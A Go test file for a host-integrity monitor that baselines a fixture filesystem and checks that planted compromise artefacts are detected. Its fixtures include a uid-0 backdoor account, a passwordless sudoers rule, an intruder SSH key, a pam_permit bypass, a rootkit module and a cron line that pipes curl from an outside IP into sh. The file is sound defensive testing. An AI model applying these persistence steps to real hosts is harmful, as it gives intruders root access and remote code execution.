package hostwatch

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

func write(t *testing.T, root, p, data string, mode os.FileMode) {
	t.Helper()
	full := filepath.Join(root, p)
	if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(full, []byte(data), mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(full, mode); err != nil {
		t.Fatal(err)
	}
}

const procTCP = `  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode
   0: 00000000:0016 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 1001 1 0000000000000000 100 0 0 10 0
   1: 0100007F:0035 0100007F:A2C4 01 00000000:00000000 00:00000000 00000000   101        0 1002 1 0000000000000000 100 0 0 10 0
`

// fixture is a small host: accounts, sudoers, a key, a unit, cron, modules,
// a listening socket, sshd and PAM configuration, a SUID binary.
func fixture(t *testing.T) string {
	root := t.TempDir()
	write(t, root, "etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n", 0o644)
	write(t, root, "etc/group", "root:x:0:\nsudo:x:27:alice\nalice:x:1000:\n", 0o644)
	write(t, root, "etc/shadow", "root:!:19000::::::\nalice:$y$j9T$abc$def:19000::::::\n", 0o640)
	write(t, root, "etc/sudoers", "# comment\nDefaults env_reset\nroot ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n", 0o440)
	write(t, root, "root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl admin@example\n", 0o600)
	write(t, root, "etc/systemd/system/app.service", "[Service]\nExecStart=/usr/bin/app\n", 0o644)
	write(t, root, "etc/cron.d/backup", "0 3 * * * root /usr/bin/backup\n", 0o644)
	write(t, root, "etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n", 0o644)
	write(t, root, "proc/modules", "ext4 1114112 1 - Live 0x0000000000000000\n", 0o444)
	write(t, root, "proc/net/tcp", procTCP, 0o444)
	write(t, root, "etc/ssh/sshd_config", "PermitRootLogin no\nPasswordAuthentication no\n", 0o644)
	write(t, root, "etc/pam.d/sshd", "auth required pam_unix.so\n", 0o644)
	write(t, root, "usr/bin/passwd", "binary", 0o755|os.ModeSetuid)
	write(t, root, "usr/bin/ls", "binary", 0o755)
	write(t, root, "etc/rampart/rampart.toml", "[daemon]\nfirewall = \"nft\"\n", 0o644)
	return root
}

func testEnv(root string) Env {
	return Env{Root: root, SUIDPaths: []string{"/usr"}, ConfigFiles: []string{"/etc/rampart/rampart.toml"}, Proc: filepath.Join(root, "noproc")}
}

// TestCheckOnFixture: accept a fixture host, change one thing per
// collector, and check names exactly those changes.
func TestCheckOnFixture(t *testing.T) {
	root := fixture(t)
	env := testEnv(root)
	ctx := context.Background()
	b, rep, err := Accept(ctx, env, Collectors(), nil, "test", time.Now())
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Errors) > 0 {
		t.Fatalf("accept errors: %v", rep.Errors)
	}
	file := filepath.Join(t.TempDir(), "host.baseline")
	if err := b.Save(file); err != nil {
		t.Fatal(err)
	}
	if b, err = Load(file); err != nil {
		t.Fatal(err)
	}
	rep, err = Check(ctx, env, Collectors(), b)
	if err != nil || len(rep.Changes) != 0 || len(rep.Errors) != 0 || len(rep.Missing) != 0 {
		t.Fatalf("unchanged fixture: %+v, %v", rep, err)
	}

	write(t, root, "etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\ntoor:x:0:0::/root:/bin/sh\n", 0o644)
	write(t, root, "etc/group", "root:x:0:\nsudo:x:27:alice,mallory\nalice:x:1000:\n", 0o644)
	write(t, root, "etc/shadow", "root:!:19000::::::\nalice:$y$j9T$new$hash:19000::::::\n", 0o640)
	write(t, root, "etc/sudoers.d/evil", "mallory ALL=(ALL) NOPASSWD: ALL\n", 0o440)
	write(t, root, "root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl admin@example\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ== intruder\n", 0o600)
	write(t, root, "etc/systemd/system/updater.timer", "[Timer]\nOnCalendar=hourly\n", 0o644)
	write(t, root, "etc/cron.d/backup", "0 3 * * * root /usr/bin/backup\n* * * * * root curl http://203.0.113.7/x | sh\n", 0o644)
	write(t, root, "proc/modules", "ext4 1114112 1 - Live 0x0000000000000000\nrootkit 16384 0 - Live 0x0000000000000000 (OE)\n", 0o444)
	write(t, root, "proc/net/tcp", procTCP+"   2: 00000000:7A69 00000000:0000 0A 00000000:00000000 00:00000000 00000000  1000        0 1003 1 0000000000000000 100 0 0 10 0\n", 0o444)
	write(t, root, "etc/ssh/sshd_config", "PermitRootLogin yes\nPasswordAuthentication no\n", 0o644)
	write(t, root, "etc/pam.d/sshd", "auth sufficient pam_permit.so\nauth required pam_unix.so\n", 0o644)
	write(t, root, "usr/bin/ls", "binary", 0o755|os.ModeSetgid)
	write(t, root, "etc/rampart/rampart.toml", "[daemon]\nfirewall = \"dryrun\"\n", 0o644)

	rep, err = Check(ctx, env, Collectors(), b)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, c := range rep.Changes {
		got = append(got, c.Severity+" "+c.Collector+" "+c.Kind+" "+c.Key+" | "+c.New)
	}
	want := []string{
		"critical suid new /usr/bin/ls | mode 2755 uid 0 gid 0",
		"critical accounts new toor | uid 0 gid 0 home /root shell /bin/sh",
		"critical groups changed sudo | gid 27 members alice,mallory",
		"high passwords changed alice | ",
		"critical sudoers new /etc/sudoers.d/evil: mallory ALL=(ALL) NOPASSWD: ALL | ",
		"critical authorized-keys new /root/.ssh/authorized_keys ssh-rsa SHA256:",
		"high sockets new tcp 0.0.0.0:31337 | user alice process unknown",
		"critical sockets new user alice listens | ",
		"high systemd-units new /etc/systemd/system/updater.timer | sha256:",
		"high cron new /etc/cron.d/backup: * * * * * root curl http://203.0.113.7/x | sh | ",
		"high kernel-modules new rootkit | taint OE",
		"critical sshd-config new /etc/ssh/sshd_config: PermitRootLogin yes | ",
		"medium sshd-config removed /etc/ssh/sshd_config: PermitRootLogin no | ",
		"critical pam-config new /etc/pam.d/sshd: auth sufficient pam_permit.so | ",
		"medium rampart-config new /etc/rampart/rampart.toml: firewall = \"dryrun\" | ",
		"medium rampart-config removed /etc/rampart/rampart.toml: firewall = \"nft\" | ",
	}
	// Values that hold hashes are compared by prefix.
	for _, w := range want {
		i := slices.IndexFunc(got, func(g string) bool {
			if strings.HasSuffix(w, "| ") && !strings.Contains(w, "passwords") {
				return g == w
			}
			return strings.HasPrefix(g, w)
		})
		if i < 0 {
			t.Errorf("missing change %q", w)
			continue
		}
		got = slices.Delete(got, i, i+1)
	}
	for _, g := range got {
		t.Errorf("unexpected change %q", g)
	}
	// Accept one collector: its changes go, the others stay.
	nb, arep, err := Accept(ctx, env, []Collector{modulesCollector()}, b, "test", time.Now())
	if err != nil || len(arep.Changes) != 1 {
		t.Fatalf("accept kernel-modules: %+v %v", arep, err)
	}
	rep, _ = Check(ctx, env, Collectors(), nb)
	for _, c := range rep.Changes {
		if c.Collector == "kernel-modules" {
			t.Errorf("after accept: %v", c)
		}
	}
	if len(rep.Changes) != len(want)-1 {
		t.Errorf("after accepting modules: %d changes, want %d", len(rep.Changes), len(want)-1)
	}
	if n := len(nb.Accepts); n != 2 || nb.Accepts[1].By != "test" || nb.Accepts[1].Collectors[0] != "kernel-modules" {
		t.Errorf("accept records: %+v", nb.Accepts)
	}
}

// TestBaselineRefused: a truncated, edited or world-writable baseline is
// refused, never used.
func TestBaselineRefused(t *testing.T) {
	root := fixture(t)
	b, _, err := Accept(context.Background(), testEnv(root), Collectors(), nil, "test", time.Now())
	if err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(t.TempDir(), "b")
	if err := b.Save(file); err != nil {
		t.Fatal(err)
	}
	data, _ := os.ReadFile(file)
	cases := map[string][]byte{
		"truncated": data[:len(data)/2],
		"edited":    []byte(strings.Replace(string(data), "alice", "alicf", 1)),
		"empty":     nil,
	}
	for name, d := range cases {
		os.WriteFile(file, d, 0o600)
		if _, err := Load(file); err == nil || !strings.Contains(err.Error(), "refused") {
			t.Errorf("%s: Load = %v, want a refusal", name, err)
		}
	}
	os.WriteFile(file, data, 0o600)
	os.Chmod(file, 0o666)
	if _, err := Load(file); err == nil || !strings.Contains(err.Error(), "others write") {
		t.Errorf("world-writable: Load = %v", err)
	}
	if _, err := Check(context.Background(), Env{Root: t.TempDir()}, Collectors(), b); err == nil || !strings.Contains(err.Error(), "taken of root") {
		t.Errorf("other root: %v", err)
	}
}

func TestParseAuthorizedKey(t *testing.T) {
	typ, fp, rest, ok := parseAuthorizedKey(`from="192.0.2.1",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl admin@example`)
	if !ok || typ != "ssh-ed25519" || !strings.HasPrefix(fp, "SHA256:") || rest != `from="192.0.2.1",no-pty admin@example` {
		t.Fatalf("%q %q %q %v", typ, fp, rest, ok)
	}
	if _, _, _, ok := parseAuthorizedKey("garbage line"); ok {
		t.Fatal("garbage parsed")
	}
}
